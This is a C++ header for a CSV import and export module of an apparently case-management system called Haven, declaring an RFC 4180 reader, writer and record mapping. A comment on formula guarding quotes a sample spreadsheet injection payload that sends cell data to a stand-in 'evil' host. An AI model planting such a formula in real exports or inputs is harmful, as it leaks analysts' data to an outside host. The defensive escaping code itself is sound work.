// CSV files in and out of Haven: an RFC 4180 reader and writer, and the mapping of every entity
// (as described by its EntitySpec) to CSV columns, so that what `export_records` writes,
// `import_records` reads back. The public door of haven_csv.
#pragma once

#include <cstdint>
#include <functional>
#include <iosfwd>
#include <map>
#include <string>
#include <string_view>
#include <vector>

#include "core/result.hpp"

namespace haven {

class Clock;
class Store;
class Transaction;
struct EntitySpec;
struct Record;

// ---- CSV format ------------------------------------------------------------------------------

// One cell as RFC 4180 writes it: quoted (with quotes doubled) when it holds a comma, a quote, a
// line break, or leading or trailing blanks; otherwise as is.
std::string csv_cell(std::string_view text);
// Writes `cells` as one row ended by CRLF.
void write_csv_row(std::ostream& out, const std::vector<std::string>& cells);

// Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with = + - or @ as a
// formula, so a name like `=HYPERLINK("http://evil/?"&A2)` typed into an intake form would run on
// the analyst's machine when the export is opened. guard_formula puts an apostrophe before such
// text; text that already starts with apostrophes followed by one of those characters gets one
// more, so unguard_formula(guard_formula(x)) == x for every x.
std::string guard_formula(std::string_view text);
std::string unguard_formula(std::string_view cell);

struct CsvRow {
  std::uint64_t line = 0;  // 1-based line of the file where the row starts
  std::vector<std::string> cells;
};

// Reads RFC 4180 CSV (comma separated, double quotes, CRLF or LF line ends, cells may span
// lines) from `in` and calls `on_row` for every row, header first, in order. A UTF-8 byte order
// mark at the start is skipped; blank lines are skipped. Cells are passed as written: blanks are
// kept, nothing is trimmed.
// The first row is the header: every later row must have as many cells, and errors name cells by
// their header. Stops at the first error and returns it, with Error.field saying where
// ("line 7, column \"sex\""):
//   kInvalidArgument: a quoted cell that is never closed (a truncated file), a stray quote, a
//                     cell that is not valid UTF-8, a row with more or fewer cells than the header,
//                     an empty file;
//   kUnavailable:     the stream could not be read;
//   any error `on_row` returns.
Status read_csv(std::istream& in, const std::function<Status(const CsvRow& row)>& on_row);

// ---- Entities as CSV -------------------------------------------------------------------------

// The columns of `spec` in export order: id, display_code, version, created_at, updated_at, then
// every field of the spec in its order (computed fields included).
std::vector<std::string> csv_columns(const EntitySpec& spec);
// One record as cells matching csv_columns(spec): an absent field is an empty cell; booleans are
// true/false; numbers as in JSON; dates and enumerations as text; strings through guard_formula;
// lists, objects and custom fields as compact JSON.
std::vector<std::string> record_cells(const EntitySpec& spec, const Record& record);

// Reports progress: `done` of `total` (total is 0 when not known in advance).
using Progress = std::function<void(std::uint64_t done, std::uint64_t total)>;

// Writes every record of `spec` in `org_id` (0: every organisation) to `out` as CSV with a header
// row, in id order, reading pages of 1000 records; `progress` (may be empty) is called after each
// page with records written and the total. Returns the number of records written.
// Errors: those of tx.list/tx.count; kUnavailable when `out` fails (disk full).
Result<std::uint64_t> export_records(Transaction& tx, const EntitySpec& spec, std::int64_t org_id,
                                     std::ostream& out, const Progress& progress);

struct ImportSummary {
  std::uint64_t rows = 0;                 // data rows read (the header not counted)
  std::uint64_t created = 0;              // records created
  std::uint64_t references_remapped = 0;  // reference values replaced through an id map
};

// kind -> id in the system a file was exported from -> id given to that record by an import here.
using IdMaps = std::map<std::string, std::map<std::int64_t, std::int64_t>>;

// Creates one record of `spec` in `org_id` for every data row of the CSV in `in`, through
// create_record (so every row is validated like an API write), all in ONE write transaction:
// either every row is imported or nothing is.
// The header must use the names of csv_columns(spec), in any order; envelope columns (id,
// display_code, ...) and optional fields may be left out. Computed fields are read and ignored;
// display_code, version, created_at and updated_at are ignored (the store assigns them).
// An empty cell is an absent field. Strings are unguarded (see guard_formula).
// Ids: every record gets a new id here. A row's `id` is its id in the system the file came from;
// references (kRef, kRefList fields) are translated: to the same kind through the ids of earlier
// rows of this file, to other kinds through `id_maps`; a reference not in the map is kept as it is
// (and validated as an id of this store). On success the file's ids are added to
// id_maps[spec.kind], so a caller can import persons, then cases, then case_persons.
// `progress` (may be empty) is called with rows imported and the total rows (0 if `in` cannot be
// rewound to count them first).
// REQUIRES: `in` is open. On failure nothing is written and id_maps is unchanged; the error names
// the line and the column ("line 7, column age_estimate: must be a whole number ...").
Result<ImportSummary> import_records(Store& store, const EntitySpec& spec, std::int64_t org_id,
                                     std::istream& in, const Clock& clock, const Progress& progress,
                                     IdMaps& id_maps);
// As above, with no references to translate from earlier imports.
Result<ImportSummary> import_records(Store& store, const EntitySpec& spec, std::int64_t org_id,
                                     std::istream& in, const Clock& clock,
                                     const Progress& progress);

}  // namespace haven
